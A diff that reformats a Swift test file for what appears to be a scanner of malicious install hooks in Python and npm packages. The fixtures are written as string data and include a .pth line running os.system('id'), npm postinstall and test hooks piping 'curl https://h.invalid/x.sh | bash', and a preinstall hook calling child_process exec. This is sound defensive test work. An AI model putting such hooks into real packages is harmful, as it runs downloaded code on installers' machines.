@@ -59,7 +59,11 @@ struct EntryPointTests {
 
     @Test func pathFileLinesRunAtTheStartOfTheInterpreter() {
         let result = sequence(["evil.pth": "folder\nimport os; os.system('id')\n"], kind: .wheel)
-        #expect(result.unit("evil.pth", .importing) == ["hook.import", "layer.begin", "imp.system", "cmd.recon", "proc.shell", "arg.constant-command", "layer.end"])
+        #expect(
+            result.unit("evil.pth", .importing) == [
+                "hook.import", "layer.begin", "imp.system", "cmd.recon", "proc.shell", "arg.constant-command",
+                "layer.end",
+            ])
         #expect(result.units[0].events[0].line == 2)
     }
 
@@ -77,7 +81,8 @@ struct EntryPointTests {
     }
 
     @Test func testsCountWhenThePackageImportsThem() {
-        let result = sequence(["pkg/__init__.py": "from .tests import x\n", "pkg/tests/x.py": "import os\n"], kind: .wheel)
+        let result = sequence(
+            ["pkg/__init__.py": "from .tests import x\n", "pkg/tests/x.py": "import os\n"], kind: .wheel)
         #expect(result.unit("pkg/tests/x.py", .importing) == ["imp.system"])
     }
 
@@ -101,12 +106,16 @@ struct EntryPointTests {
     }
 
     @Test func hooksThatNpmDoesNotRunAreNoUnits() {
-        let result = npmSequence(["package.json": "{\"scripts\": {\"test\": \"curl https://h.invalid | sh\", \"prepare\": \"x\"}}"])
+        let result = npmSequence([
+            "package.json": "{\"scripts\": {\"test\": \"curl https://h.invalid | sh\", \"prepare\": \"x\"}}"
+        ])
         #expect(result.units.isEmpty)
     }
 
     @Test func downloadPipedIntoAShellIsSeenInAHook() throws {
-        let result = npmSequence(["package.json": "{\"scripts\": {\"postinstall\": \"curl -s https://h.invalid/x.sh | bash\"}}"])
+        let result = npmSequence([
+            "package.json": "{\"scripts\": {\"postinstall\": \"curl -s https://h.invalid/x.sh | bash\"}}"
+        ])
         let names = try #require(result.unit("scripts.postinstall"))
         #expect(occursInOrder(["url.ordinary", "shell.download", "shell.pipe-to-shell"], in: names))
     }
@@ -116,7 +125,8 @@ struct EntryPointTests {
             "package.json": "{\"scripts\": {\"preinstall\": \"node -e \\\"require('child_process').exec('id')\\\"\"}}"
         ])
         let names = try #require(result.unit("scripts.preinstall"))
-        #expect(occursInOrder(["shell.inline-code", "layer.begin", "imp.process", "proc.shell", "layer.end"], in: names))
+        #expect(
+            occursInOrder(["shell.inline-code", "layer.begin", "imp.process", "proc.shell", "layer.end"], in: names))
     }
 
     @Test func buildToolInAHookIsOnlyATool() throws {
@@ -139,8 +149,10 @@ struct EntryPointTests {
 
     @Test func mainExportsAndBinAreImported() {
         let result = npmSequence([
-            "package.json": "{\"main\": \"./lib\", \"bin\": {\"c\": \"cli.js\"}, \"exports\": {\"./x\": {\"require\": \"./x.cjs\"}}}",
-            "lib/index.js": "require('fs');require('./used');", "lib/used.js": "require('os');", "cli.js": "require('net');",
+            "package.json":
+                "{\"main\": \"./lib\", \"bin\": {\"c\": \"cli.js\"}, \"exports\": {\"./x\": {\"require\": \"./x.cjs\"}}}",
+            "lib/index.js": "require('fs');require('./used');", "lib/used.js": "require('os');",
+            "cli.js": "require('net');",
             "x.cjs": "require('vm');", "lib/rest.js": "require('dns');",
         ])
         #expect(result.unit("lib/index.js", .importing) == ["imp.files"])
